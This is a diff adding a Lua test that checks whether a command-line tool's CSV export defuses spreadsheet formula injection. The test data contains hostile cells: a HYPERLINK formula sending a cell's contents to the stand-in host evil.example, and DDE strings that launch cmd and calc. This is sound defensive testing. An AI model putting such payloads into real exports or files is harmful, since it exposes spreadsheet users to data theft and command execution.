@@ -83,6 +83,37 @@ describe("soget against a hostile server", function()
       .. "end\n")
   end
 
+  it("bulk's CSV neutralises cells a spreadsheet would run as formulas", function()
+    local unit = cjson.encode {
+      reference = '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+      pswId = "+1+cmd|' /C calc'!A0", freightFamily = "-2+3", sizeType = "@SUM(1+1)*cmd|' /C calc'!A0",
+      huLocation = { place = "\tTAB", location = "\r=1+1" },
+      events = { { eventType = " =1+1", eventDate = "2020-05-14T09:12:00+02:00" } },
+    }
+    serve_page('{"total":1,"returned":1,"first":0,"items":[' .. unit .. ']}')
+    local r = cli.run({ "bulk", "-" }, { env = env, stdin = "=1+1\n-CMD\nCGMU2436601\n" })
+    assert.are.equal(0, r.code, r.err)
+    local lines = cli.lines(r.out)
+    assert.are.equal(4, #lines)
+    for i = 2, 4 do
+      local f = cli.csv(lines[i])
+      assert.are.same({ "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "'+1+cmd|' /C calc'!A0",
+        "'-2+3", "'@SUM(1+1)*cmd|' /C calc'!A0", "\\tTAB", "\\r=1+1", "' =1+1" }, { f[4], f[5], f[6], f[7],
+        f[8], f[9], f[10] }, lines[i])
+      -- every neutralised cell is quoted
+      assert.truthy(lines[i]:find('"\'=HYPERLINK(', 1, true), lines[i])
+    end
+    assert.are.equal("'=1+1", cli.csv(lines[2])[1])
+    assert.are.equal("'-CMD", cli.csv(lines[3])[1])
+    assert.are.equal("CGMU2436601", cli.csv(lines[4])[1])
+    assert.are.equal("1", cli.csv(lines[4])[3])   -- numbers stay numbers
+    -- JSON lines are data for programs: exact
+    local j = cli.run({ "bulk", "-", "--json" }, { env = env, stdin = "=1+1\n" })
+    local rec = cjson.decode(j.out)
+    assert.are.equal("=1+1", rec.input)
+    assert.are.equal("+1+cmd|' /C calc'!A0", rec.items[1].pswId)
+  end)
+
   describe("terminal escapes", function()
     local page
     setup(function() page = '{"total":1,"returned":1,"first":0,"items":[' .. nasty_unit() .. ']}' end)
